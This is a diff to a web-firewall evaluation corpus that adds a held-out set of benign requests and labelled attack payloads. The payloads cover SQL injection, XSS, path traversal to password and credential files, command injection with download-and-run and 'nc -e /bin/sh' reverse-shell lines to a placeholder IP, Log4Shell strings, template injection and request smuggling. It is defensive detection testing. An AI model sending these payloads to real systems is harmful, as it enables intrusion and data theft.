@@ -1637,47 +1637,45 @@ HELDOUT2_ATTACKS: tuple[tuple[str, str, str], ...] = (
 )
 
 
+def _deliver(cat: str, how: str, p: str, note: str) -> CorpusRequest:
+    """One held-out payload delivered the way `how` names (query, double, raw, form, json...)."""
+    h = _headers()
+    if how == "query":
+        return CorpusRequest(cat, "GET", "/search", f"q={quote(p, safe='')}", h, None, note)
+    if how == "double":
+        q = f"q={quote(quote(p, safe=''), safe='')}"
+        return CorpusRequest(cat, "GET", "/page/1", q, h, None, note)
+    if how == "raw":
+        return CorpusRequest(cat, "GET", "/item", f"v={p}", h, None, note)
+    if how == "rawquery":
+        return CorpusRequest(cat, "GET", "/api/login", p, h, None, note)
+    if how == "form":
+        return _form(cat, "/community/posts", {"title": "hi", "body": p}, note)
+    if how == "json":
+        return _json(cat, "/api/comments", {"thread": 7, "text": p}, note)
+    if how in ("rawjson", "body"):
+        ctype = "application/json" if how == "rawjson" else "application/x-www-form-urlencoded"
+        body = p.encode()
+        h = {**h, "Content-Type": ctype, "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/api/login", "", h, body, note)
+    if how == "cookie":
+        h["Cookie"] = f"session=abc123; pref={quote(p, safe='')}"
+        return CorpusRequest(cat, "GET", "/account", "", h, None, note)
+    if how in ("ua", "referer") or how.startswith("header:"):
+        name = {"ua": "User-Agent", "referer": "Referer"}.get(how, how.partition(":")[2])
+        h[name] = p
+        return CorpusRequest(cat, "GET", "/", "", h, None, note)
+    if how == "path":
+        path, _, q = p.partition("?")
+        return CorpusRequest(cat, "GET", path, q, h, None, note)
+    if how == "method":
+        return CorpusRequest(cat, p, "/", "", h, None, note)
+    raise ValueError(f"unknown delivery {how!r}")
+
+
 def heldout2_attacks() -> list[CorpusRequest]:
     """The second held-out attack set, each payload delivered the way its entry names."""
-    out: list[CorpusRequest] = []
-    for cat, how, p in HELDOUT2_ATTACKS:
-        note = f"held-out-2 {how}: {p[:120]}"
-        h = _headers()
-        if how == "query":
-            out.append(
-                CorpusRequest(cat, "GET", "/search", f"q={quote(p, safe='')}", h, None, note)
-            )
-        elif how == "double":
-            q = f"q={quote(quote(p, safe=''), safe='')}"
-            out.append(CorpusRequest(cat, "GET", "/page/1", q, h, None, note))
-        elif how == "raw":
-            out.append(CorpusRequest(cat, "GET", "/item", f"v={p}", h, None, note))
-        elif how == "rawquery":
-            out.append(CorpusRequest(cat, "GET", "/api/login", p, h, None, note))
-        elif how == "form":
-            out.append(_form(cat, "/community/posts", {"title": "hi", "body": p}, note))
-        elif how == "json":
-            out.append(_json(cat, "/api/comments", {"thread": 7, "text": p}, note))
-        elif how in ("rawjson", "body"):
-            ctype = "application/json" if how == "rawjson" else "application/x-www-form-urlencoded"
-            body = p.encode()
-            h = {**h, "Content-Type": ctype, "Content-Length": str(len(body))}
-            out.append(CorpusRequest(cat, "POST", "/api/login", "", h, body, note))
-        elif how == "cookie":
-            h["Cookie"] = f"session=abc123; pref={quote(p, safe='')}"
-            out.append(CorpusRequest(cat, "GET", "/account", "", h, None, note))
-        elif how in ("ua", "referer") or how.startswith("header:"):
-            name = {"ua": "User-Agent", "referer": "Referer"}.get(how, how.partition(":")[2])
-            h[name] = p
-            out.append(CorpusRequest(cat, "GET", "/", "", h, None, note))
-        elif how == "path":
-            path, _, q = p.partition("?")
-            out.append(CorpusRequest(cat, "GET", path, q, h, None, note))
-        elif how == "method":
-            out.append(CorpusRequest(cat, p, "/", "", h, None, note))
-        else:
-            raise ValueError(f"unknown delivery {how!r}")
-    return out
+    return [_deliver(c, how, p, f"held-out-2 {how}: {p[:120]}") for c, how, p in HELDOUT2_ATTACKS]
 
 
 def heldout2_benign() -> list[CorpusRequest]:
@@ -1719,4 +1717,443 @@ def heldout2_benign() -> list[CorpusRequest]:
     for ua in HELDOUT2_BENIGN_UAS:
         h = _headers(ua=ua)
         out.append(CorpusRequest("benign", "GET", "/", "", h, None, f"held-out-2 user agent: {ua}"))
+    return out
+
+
+# -- held out, third set: written on 2026-11-27 BEFORE the second false-positive round ----------
+# Same rule as HELDOUT2: nobody looks at which of these items the rules flag while tuning;
+# `benchmarks/waf_eval.py` prints their totals only unless asked (`--show-heldout3`).
+
+HELDOUT3_BENIGN_TEXT: tuple[str, ...] = (
+    # developer forum: shells, paths, code
+    "python subprocess run vs popen",
+    "how to kill a process on port 8080 linux",
+    "bash for loop over files in a directory",
+    "git reset --hard origin/main lost my changes",
+    "docker run -it --rm ubuntu bash",
+    "curl -X POST with a json body and headers",
+    "what is /dev/null and why redirect to it",
+    "rm -rf node_modules && npm install fixed it",
+    "chmod +x deploy.sh then ./deploy.sh",
+    "ping 8.8.8.8 works but dns doesn't",
+    "echo $PATH shows the wrong python",
+    "export PATH=$HOME/.local/bin:$PATH in .bashrc",
+    "crontab every 5 minutes: */5 * * * *",
+    "find . -name '*.log' -mtime +7 -delete",
+    "ps aux | grep nginx shows two masters",
+    "what does 2>&1 mean at the end of a command",
+    "powershell Get-ChildItem -Recurse -Filter *.txt",
+    "${HOME} vs ~ in bash scripts",
+    "{{ variable }} not rendering in jinja template",
+    "template literal `${name}` in javascript",
+    "is eval() really that bad in javascript?",
+    "base64 encode a string in python 3",
+    "import os; os.getcwd() returns the wrong folder",
+    "spring boot actuator health endpoint returns 404",
+    "how to read /var/log/syslog on ubuntu",
+    "C:\\Users\\sam\\Documents\\resume.docx won't open",
+    "mongodb $ne operator example",
+    "$gt and $lt in a mongoose find query",
+    "what does c?t match in a shell glob",
+    "/proc/cpuinfo explained: what are flags",
+    "how do I use the Range header for video streaming",
+    "utf-7 encoding explained",
+    "wordpress file manager plugin review",
+    "is nikto a virus? my antivirus flagged it",
+    # SQL and web questions
+    "left join vs inner join with an example",
+    "select * from orders where status = 'shipped' returns nothing",
+    "update users set email where id is null",
+    "mysql order by rand() is slow",
+    "why do people write WHERE 1=1 in query builders",
+    "sql injection prevention with prepared statements in php",
+    "javascript onclick vs addEventListener",
+    "react onChange not firing on input",
+    "<br> vs <br/> in html5",
+    "css selector a[href^='http'] not matching",
+    "alert() not working in chrome extension",
+    "document.getElementById returns null",
+    "<table> borders not showing in email",
+    "img onerror fallback image best practice",
+    'what does href="javascript:void(0)" mean',
+    "if (a && b) { return; } vs nested ifs",
+    # shop and everyday text
+    "Tom & Jerry; the movie (2021)",
+    "is 5 > 3? yes; and 3 < 5",
+    "50% off -- today only!!!",
+    "Ben & Jerry's 'Cherry Garcia' ice cream",
+    "I'd rate it 4/5 -- would buy again; shipping was slow though",
+    "price <= $20 and rating >= 4",
+    "AT&T vs T-Mobile coverage map",
+    "the script for the school play",
+    "Macbeth Act 1 Scene 5: 'Come, you spirits'",
+    "union jack cushion cover",
+    "select committee report 2024",
+    "drop shipping business ideas",
+    "insert coin to continue arcade cabinet",
+    "delete my account and all data",
+    "exec summary template for a board meeting",
+    "O'Reilly 'Learning SQL' 3rd edition",
+    "Müller & Söhne Kaffeemühle (Edelstahl)",
+    'shelf 12" x 8\' board, 1" thick',
+    "5'11\" in cm",
+    "order #1234 -- where is it?",
+    "or 1 more thing: can I return it after 30 days?",
+    "and/or vs or in legal writing",
+    "what's the difference between 'its' and 'it's'?",
+    "cat & dog bed, large (grey)",
+    "how to clean a burr grinder; rice or tablets?",
+)
+"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""
+
+HELDOUT3_BENIGN_QUERIES: tuple[str, ...] = (
+    "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=hero%7Cbtn",
+    "fbclid=IwAR2xYz_abc-DEF123&utm_source=facebook",
+    "gclid=Cj0KCQjw_abc-123&gad_source=1",
+    "sort=-created_at&page[size]=20&page[number]=2&include=author,comments",
+    "where=%7B%22score%22%3A%7B%22%24gte%22%3A1000%7D%7D&limit=10",
+    "filter[price][_gte]=10&filter[status][_eq]=published",
+    "q=%22exact+phrase%22+-minus+site%3Aexample.com",
+    "select=id,name,price&order=price.desc&price=lt.100",
+    "fields[articles]=title,body&fields[people]=name",
+    "expand=items.product&limit=50&offset=100",
+    "search=rock+%26+roll&genre=80%27s",
+    "tags=c%2B%2B,c%23,.net",
+    "returnUrl=%2Faccount%2Forders%3Fpage%3D2",
+    "text=Hello%2C+world%21+%3A-%29",
+    "extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22ab12%22%7D%7D",
+)
+"""Whole query strings: campaign tags, JSON:API, PostgREST, Directus, Parse, GraphQL APQ."""
+
+HELDOUT3_BENIGN_PATHS: tuple[str, ...] = (
+    "/blog/2024/03/why-we-moved-from-mysql-to-postgres",
+    "/docs/api/v2/select-fields",
+    "/static/js/main.3f2a1b.chunk.js",
+    "/fonts/inter-var.woff2",
+    "/images/products/42/thumb@2x.webp",
+    "/u/sam.o%27neil",
+    "/search/c%23%20tutorial",
+    "/.well-known/openid-configuration",
+    "/.well-known/apple-app-site-association",
+    "/sitemap-products-1.xml.gz",
+    "/feeds/all.atom.xml",
+    "/wiki/Bobby_Tables",
+    "/tags/shell-script",
+    "/en-gb/help/returns-and-refunds",
+)
+
+HELDOUT3_BENIGN_JSON: tuple[object, ...] = (
+    {"snippet": 'for f in *.txt; do echo "$f"; done', "lang": "bash"},
+    {"review": "Great grinder -- 5/5. Burrs are steel; noise < 70 dB.", "rating": 5},
+    {"name": "O'Neil & Sons Ltd.", "vat": "GB123456789"},
+    {"query": "{ viewer { login repositories(first: 5) { nodes { name } } } }"},
+    {
+        "operationName": "GetCart",
+        "variables": {"id": "42"},
+        "query": "query GetCart($id: ID!) { cart(id: $id) { total } }",
+    },
+    {"filter": {"price": {"gte": 10, "lte": 50}, "tags": {"in": ["a", "b"]}}},
+    {"template": "Hi {{first_name}}, your order {{order_id}} has shipped."},
+    {"css": "a:hover { color: #c00; } /* brand red */"},
+    {"path": "C:\\Users\\Public\\Downloads\\invoice.pdf"},
+    {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
+    {"cron": "0 */6 * * *", "task": "sync"},
+    {"message": "Running `ls -la` shows nothing; tried `cd ..` too"},
+    {"note": "Seen curl/8.4.0 and python-requests in the logs"},
+    {"addr": "10.0.0.1/24", "gw": "10.0.0.254"},
+    {"text": "Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy", "format": "html"},
+)
+
+HELDOUT3_BENIGN_COOKIES: tuple[str, ...] = (
+    "_fbp=fb.1.1700000000000.1234567890; _gcl_au=1.1.1234567890.1700000000",
+    "cf_clearance=abc.def-1700000000-0-1-abc.def.ghi-0.2.1700000000",
+    "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Apr+22+2024+10%3A00%3A00+GMT%2B0100"
+    "&version=202403.1.0&groups=C0001%3A1%2CC0002%3A0",
+    "CookieConsent={stamp:%27abc==%27%2Cnecessary:true%2Cpreferences:false%2Cstatistics:true"
+    "%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1}",
+    "session=eyJ1c2VyIjoic2FtIn0.ZiZ0aA.abcDEF_ghi-jkl",
+    "ASP.NET_SessionId=abcdefghijklmnopqrstuvwx; .AspNetCore.Antiforgery.xyz=CfDJ8abc-def",
+    "shopify_y=abc-123; cart=c1-abc123; cart_sig=0123abcd; secure_customer_sig=",
+    "remember_web_59ba36=eyJpdiI6Ij; theme=dark; font-size=16px",
+    "recently_viewed=%5B%2242%22%2C%2217%22%5D; currency=EUR",
+    "search_history=how%20to%20select%20a%20grinder%7Cdrop%20shipping",
+)
+
+HELDOUT3_BENIGN_REFERERS: tuple[str, ...] = (
+    "https://www.google.co.uk/",
+    "https://www.google.com/search?q=%22union%22+jack+mug&sca_esv=123",
+    "https://search.yahoo.com/search?p=select+comfort+bed",
+    "https://www.pinterest.com/pin/123456789/",
+    "https://shop.example.com/cart?coupon=SAVE10&step=2",
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+    "https://stackoverflow.com/questions/456/how-to-edit-etc-hosts-on-windows",
+    "https://www.baidu.com/s?wd=%E5%92%96%E5%95%A1",
+    "https://translate.google.com/?sl=auto&tl=en&text=caf%C3%A9%20cr%C3%A8me&op=translate",
+    "https://outlook.live.com/",
+)
+
+HELDOUT3_BENIGN_UAS: tuple[str, ...] = (
+    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; "
+    "+https://openai.com/gptbot)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
+    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+    "Roku/DVP-12.5 (12.5.0.4178-C2)",
+    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
+    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
+    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
+    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+    "PostmanRuntime/7.37.3",
+    "okhttp/4.12.0",
+    "axios/1.6.8",
+    "python-requests/2.31.0",
+)
+"""Crawlers, monitors, consoles and API clients a real site serves."""
+
+HELDOUT3_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
+    # (method, path, query, extra headers, body): HTTP features real clients use
+    ("GET", "/video/intro.mp4", "", {"Range": "bytes=0-"}, None),
+    ("GET", "/video/intro.mp4", "", {"Range": "bytes=1048576-2097151"}, None),
+    ("GET", "/files/catalogue.pdf", "", {"Range": "bytes=0-1023,4096-8191"}, None),
+    (
+        "POST",
+        "/contact",
+        "",
+        {"Content-Type": "application/x-www-form-urlencoded; charset=ISO-8859-1"},
+        b"name=Jos%E9&message=Merci+beaucoup",
+    ),
+    (
+        "POST",
+        "/upload",
+        "",
+        {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
+        b'------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="note"'
+        b"\r\n\r\nsee attached\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n",
+    ),
+    ("POST", "/api/notes", "", {"Content-Type": "text/plain; charset=utf-8"}, b"hello"),
+    (
+        "OPTIONS",
+        "/api/items",
+        "",
+        {"Origin": "https://app.example.com", "Access-Control-Request-Method": "PUT"},
+        None,
+    ),
+    ("HEAD", "/", "", {}, None),
+    ("PUT", "/api/v1/cart/42", "", {"Content-Type": "application/json"}, b'{"qty": 3}'),
+    ("DELETE", "/api/v1/cart/42/items/7", "", {}, None),
+    ("PATCH", "/api/v1/me", "", {"Content-Type": "application/json"}, b'{"name": "Sam"}'),
+    ("GET", "/", "", {"X-Forwarded-For": "203.0.113.7, 10.0.0.2"}, None),
+    (
+        "GET",
+        "/styles.css",
+        "",
+        {"If-None-Match": 'W/"5e-abc"', "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT"},
+        None,
+    ),
+    ("GET", "/api/repos", "", {"Accept": "application/vnd.github+json"}, None),
+    (
+        "GET",
+        "/api/me",
+        "",
+        {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.x"},
+        None,
+    ),
+    (
+        "GET",
+        "/",
+        "",
+        {
+            "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
+            "Sec-Fetch-Mode": "navigate",
+            "Cache-Control": "no-cache",
+            "Pragma": "no-cache",
+        },
+        None,
+    ),
+)
+
+HELDOUT3_ATTACKS: tuple[tuple[str, str, str], ...] = (
+    # (category, delivery, payload); deliveries as in HELDOUT2 (`_deliver`).
+    ("sqli", "query", "1' AND 3421=3421 AND 'xYzA'='xYzA"),
+    ("sqli", "double", "-7' UNION ALL SELECT CONCAT(0x71,0x62,0x71),NULL,NULL-- wXyZ"),
+    (
+        "sqli",
+        "form",
+        "x' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s)"
+        ", 8446744073709551610, 8446744073709551610)))-- -",
+    ),
+    ("sqli", "json", "1) OR (1=1"),
+    ("sqli", "query", "1'/**/OR/**/1=1#"),
+    ("sqli", "cookie", "1 AND 1=(SELECT COUNT(*) FROM tabname); --"),
+    ("sqli", "query", "' AND substr((select password from users limit 1),1,1)='a"),
+    ("sqli", "raw", "1%20UNION%20SELECT%20password%20FROM%20users%20--"),
+    ("sqli", "form", "admin') OR ('1'='1"),
+    ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+    ("sqli", "json", "'; SELECT pg_sleep(10); --"),
+    ("sqli", "header:X-Forwarded-For", "127.0.0.1' AND SLEEP(5)-- -"),
+    ("sqli", "query", "1 AND 1=CAST((SELECT current_user) AS int)"),
+    ("sqli", "rawjson", '{"email": {"$gt": ""}, "password": {"$gt": ""}}'),
+    ("sqli", "rawquery", "username[$ne]=toto&password[$ne]=toto"),
+    ("sqli", "json", "' || '1'=='1"),
+    ("sqli", "query", "1;SELECT/*foo*/load_file('/etc/passwd')"),
+    ("sqli", "double", "%' OR 1=1 UNION SELECT name, pass FROM members WHERE '%'='"),
+    ("sqli", "ua", "Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(7))x) AND 'a'='a"),
+    ("xss", "query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("xss", "double", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("xss", "form", '<a href="&#106;avascript:alert(1)">click</a>'),
+    ("xss", "json", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
+    ("xss", "query", '"autofocus onfocus=alert(1) x="'),
+    ("xss", "cookie", "';alert(document.cookie)//"),
+    ("xss", "raw", "%3Cimg%20src%3Dx%20onerror%3Dprompt%60%60%3E"),
+    ("xss", "form", "<marquee onstart=alert(1)>"),
+    ("xss", "query", "<form><button formaction=javascript:alert(1)>X</button></form>"),
+    ("xss", "json", '<embed src="javascript:alert(1)">'),
+    ("xss", "referer", 'https://e.example/"><script src=//evil.example/x.js></script>'),
+    ("xss", "query", "<svg><script>alert&#40;1&#41;</script>"),
+    ("xss", "form", '<base href="//evil.example/">'),
+    ("xss", "raw", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
+    ("xss", "query", "<x onclick=alert(1)>click"),
+    (
+        "xss",
+        "json",
+        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/"
+        "+/[*/[]/+alert(1)//'>",
+    ),
+    ("xss", "header:X-Forwarded-Host", '"><script>alert(1)</script>'),
+    ("lfi", "query", "../../../../etc/hosts"),
+    ("lfi", "double", "../../../../../../etc/group"),
+    ("lfi", "raw", "..%5c..%5c..%5cwindows%5cwin.ini"),
+    ("lfi", "raw", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
+    ("lfi", "form", "/proc/self/cmdline"),
+    ("lfi", "json", "....\\\\....\\\\....\\\\boot.ini"),
+    ("lfi", "query", "file:///c:/windows/win.ini"),
+    ("lfi", "query", "zip://uploads/avatar.jpg#shell.php"),
+    ("lfi", "query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
+    ("lfi", "path", "/..;/..;/etc/passwd"),
+    ("lfi", "path", "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
+    ("lfi", "path", "/.env.production"),
+    ("lfi", "path", "/.aws/credentials"),
+    ("lfi", "path", "/.ssh/id_rsa"),
+    ("lfi", "path", "/WEB-INF/classes/application.properties"),
+    ("lfi", "path", "/backup.sql.gz"),
+    ("lfi", "cookie", "../../../../../../proc/self/fd/2"),
+    ("lfi", "query", "/var/www/html/.htpasswd"),
+    ("rce", "query", "|| whoami"),
+    ("rce", "double", "`id`"),
+    ("rce", "form", "; wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh"),
+    ("rce", "json", "$(curl -fsSL http://203.0.113.5/i|sh)"),
+    ("rce", "raw", "1%3Bcat%24IFS%2Fetc%2Fpasswd"),
+    ("rce", "query", ";c\\at /et\\c/pas\\swd"),
+    ("rce", "query", "; /bin/c[a]t /e[t]c/p[a]sswd"),
+    ("rce", "form", "a|w'h'o'a'm'i"),
+    ("rce", "query", "$(printf '\\x69\\x64')"),
+    ("rce", "cookie", "; nc -e /bin/sh 203.0.113.5 4444"),
+    ("rce", "ua", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
+    ("rce", "header:X-Api-Version", "${jndi:rmi://203.0.113.5:1099/x}"),
+    ("rce", "json", "${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a"),
+    ("rce", "query", "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
+    ("rce", "form", "<%= system('id') %>"),
+    ("rce", "query", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+    ("rce", "json", "powershell -nop -w hidden -enc SQBFAFgA"),
+    ("rce", "query", "& cmd /c whoami &"),
+    ("rce", "form", "';system('id');//"),
+    ("rce", "query", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='))"),
+    (
+        "scanner",
+        "ua",
+        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    ),
+    ("scanner", "ua", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
+    ("scanner", "ua", "Mozilla/5.0 zgrab/0.x"),
+    ("scanner", "ua", "Fuzz Faster U Fool v2.1.0-dev"),
+    ("scanner", "ua", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
+    ("scanner", "ua", "gobuster/3.6"),
+    ("scanner", "ua", "feroxbuster/2.10.2"),
+    ("scanner", "ua", "WhatWeb/0.5.5"),
+    (
+        "scanner",
+        "ua",
+        "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple "
+        "times per day to identify customers' presences on the Internet.",
+    ),
+    ("scanner", "path", "/pma/scripts/setup.php"),
+    ("scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    ("scanner", "path", "/solr/admin/cores?action=STATUS&wt=json"),
+    ("scanner", "path", "/manager/html"),
+    ("scanner", "path", "/owa/auth/x.js"),
+    ("scanner", "path", "/boaform/admin/formLogin"),
+    ("scanner", "path", "/HNAP1/"),
+    ("scanner", "path", "/telescope/requests"),
+    ("scanner", "path", "/debug/pprof/"),
+    ("scanner", "path", "/containers/json"),
+    ("protocol", "method", "CONNECT"),
+    ("protocol", "method", "PROPFIND"),
+    ("protocol", "method", "DEBUG"),
+    ("protocol", "header:Transfer-Encoding", "x-chunked"),
+    ("protocol", "header:Content-Length", "0, 42"),
+    ("protocol", "header:Range", "bytes=" + ",".join(["0-"] * 40)),
+    ("protocol", "header:Range", "bytes=18-18446744073709551615"),
+    ("protocol", "header:Content-Type", "application/json; charset=ibm037"),
+    ("protocol", "header:Content-Type", "multipart/form-data; boundary=x; charset=ibm500"),
+    ("protocol", "raw", "%u000d%u000aSet-Cookie:x=1"),
+    ("protocol", "raw", "%23%0dSet-Cookie:x=1"),
+    ("protocol", "header:X-Rewrite-URL", "/admin"),
+    ("protocol", "body", "0\r\n\r\nPOST /admin HTTP/1.1\r\nHost: x\r\n\r\n"),
+    ("protocol", "raw", "avatar.php%00.png"),
+    ("protocol", "rawquery", "&".join(f"p{i}=1" for i in range(600))),
+    ("protocol", "method", "trace"),
+)
+
+
+def heldout3_attacks() -> list[CorpusRequest]:
+    """The third held-out attack set, each payload delivered the way its entry names."""
+    return [_deliver(c, how, p, f"held-out-3 {how}: {p[:120]}") for c, how, p in HELDOUT3_ATTACKS]
+
+
+def heldout3_benign() -> list[CorpusRequest]:
+    """The third held-out benign set: free text, queries, paths, JSON, headers, HTTP features."""
+    out: list[CorpusRequest] = []
+    uas = BROWSER_UAS
+    for i, p in enumerate(HELDOUT3_BENIGN_TEXT):
+        note = f"held-out-3 text: {p}"
+        ua = uas[i % len(uas)]
+        if i % 3 == 0:
+            q = urlencode({"q": p})
+            out.append(CorpusRequest("benign", "GET", "/search", q, _headers(ua=ua), None, note))
+        elif i % 3 == 1:
+            fields = {"title": "Question", "body": p, "tags": "help"}
+            out.append(_form("benign", "/community/posts", fields, note, ua=ua))
+        else:
+            out.append(_json("benign", "/api/comments", {"thread": i, "text": p}, note, ua=ua))
+    for i, q in enumerate(HELDOUT3_BENIGN_QUERIES):
+        h = _headers(ua=uas[i % len(uas)], Accept="application/json")
+        out.append(
+            CorpusRequest("benign", "GET", "/api/items", q, h, None, f"held-out-3 query: {q}")
+        )
+    for i, p in enumerate(HELDOUT3_BENIGN_PATHS):
+        h = _headers(ua=uas[i % len(uas)])
+        out.append(CorpusRequest("benign", "GET", p, "", h, None, f"held-out-3 path: {p}"))
+    for i, d in enumerate(HELDOUT3_BENIGN_JSON):
+        note = f"held-out-3 json: {json.dumps(d)[:100]}"
+        out.append(_json("benign", "/api/v2/things", d, note, ua=uas[i % len(uas)]))
+    for i, c in enumerate(HELDOUT3_BENIGN_COOKIES):
+        h = _headers(ua=uas[i % len(uas)], Cookie=c)
+        out.append(
+            CorpusRequest("benign", "GET", "/account", "", h, None, f"held-out-3 cookie: {c}")
+        )
+    for i, r in enumerate(HELDOUT3_BENIGN_REFERERS):
+        h = _headers(ua=uas[i % len(uas)], Referer=r)
+        out.append(
+            CorpusRequest("benign", "GET", "/products", "", h, None, f"held-out-3 referer: {r}")
+        )
+    for ua in HELDOUT3_BENIGN_UAS:
+        h = _headers(ua=ua)
+        out.append(CorpusRequest("benign", "GET", "/", "", h, None, f"held-out-3 user agent: {ua}"))
+    for i, (method, path, q, extra, body) in enumerate(HELDOUT3_BENIGN_REQUESTS):
+        h = {**_headers(ua=uas[i % len(uas)]), **extra}
+        if body is not None:
+            h["Content-Length"] = str(len(body))
+        note = f"held-out-3 request: {method} {path} {extra}"
+        out.append(CorpusRequest("benign", method, path, q, h, body, note))
     return out
